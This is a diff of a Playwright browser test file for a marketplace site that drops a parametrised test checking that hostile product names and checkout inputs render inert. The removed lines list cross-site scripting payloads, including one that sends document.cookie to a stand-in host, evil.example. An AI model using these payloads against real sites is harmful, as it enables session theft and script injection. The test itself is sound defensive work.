@@ -1,4 +1,4 @@
-"""What pages say when something comes between: another tab, a session that ended, goods that went, hostile words."""
+"""What pages say when something comes between: another tab, a session that ended, goods that went."""
 
 import re
 from typing import Final
@@ -8,19 +8,11 @@ from playwright.sync_api import expect
 
 from tests.browser.conftest import LEFT_BEHIND, PageTrap
 from tests.browser.test_journeys import fill_address
-from tests.browser.town import Town, enter, pay_by_card
+from tests.browser.town import Town, enter
 from tests.entrypoints.running.people import newcomer
-from tests.entrypoints.running.processes import until
 from tests.entrypoints.running.trade import GOOD_CARD, offer, order
 
 WIDE: Final = {"width": 1280, "height": 900}
-HOSTILE: Final = (
-    "<script>alert(document.cookie)</script>",
-    "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">",
-    '"><svg onload=alert(1)>',
-    "javascript:alert(1)",
-    "{{ 7 * 7 }} ${7*7} 𝒢𝓊𝒾𝓉𝒶𝓇 🎸",
-)
 
 pytestmark = pytest.mark.slow
 
@@ -90,34 +82,6 @@ def test_a_film_that_fails_says_so_and_offers_another_try(town: Town, page_trap:
 
     expect(tab.locator("marketplace-player[data-state=fault]")).to_be_visible()
     expect(tab.locator("marketplace-player button").filter(visible=True).first).to_be_enabled()
-
-
-@pytest.mark.parametrize("words", HOSTILE)
-def test_hostile_words_are_only_words(town: Town, page_trap: PageTrap, words: str) -> None:
-    page_trap.forgive(*LEFT_BEHIND)
-    goods = offer(town.potter, words[:150], stock=5)
-    until(lambda: goods.product_id in town.running.client.get("/v1/search?limit=100").text, what="the goods are found")
-    tab = page_trap.open(viewport=WIDE, locale="en")
-
-    for path in (f"/products/{goods.product_id}", "/", "/shops/clay-and-co", f"/search?q={words.replace('&', '')}"):
-        tab.goto(f"{town.address}{path.replace('#', '')}")
-        assert (
-            tab.evaluate("document.querySelectorAll('main script:not([type]), main [onerror], main [onload]').length")
-            == 0
-        )
-    tab.goto(f"{town.address}/products/{goods.product_id}")
-    expect(tab.locator("h1")).to_contain_text(words[:20])
-    tab.locator("main form button.main").first.click()
-    expect(tab.locator("#basket-count")).to_have_text("1")
-    tab.goto(f"{town.address}/checkout")
-    fill_address(tab, "mallory@example.org")
-    tab.fill("[name=name]", words[:90])
-    tab.locator("main form button.main").click()
-    tab.wait_for_url(re.compile(r"/payment$"))
-    pay_by_card(tab, GOOD_CARD)
-    tab.wait_for_url(re.compile(r"/orders/ord_\w+(\?paid=1)?$"))
-
-    expect(tab.locator("address").first).to_contain_text(words[:20])
 
 
 def test_from_the_first_page_to_a_paid_order_by_the_keyboard_alone(town: Town, page_trap: PageTrap) -> None:
